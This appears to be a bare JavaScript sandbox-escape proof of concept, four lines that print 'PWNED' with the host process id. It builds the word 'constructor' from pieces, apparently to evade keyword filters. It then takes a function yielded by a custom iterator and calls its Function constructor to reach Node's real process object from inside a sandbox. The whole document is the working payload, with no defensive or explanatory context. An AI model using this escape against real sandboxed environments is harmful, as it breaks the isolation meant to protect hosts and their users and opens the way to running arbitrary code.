const w = ['con', 'structor'].join('');
function G() {}
G.prototype[Symbol.iterator] = function* () { yield (x) => x; };
for (const f of new G()) console.log('PWNED', f[w]('return process')().pid);
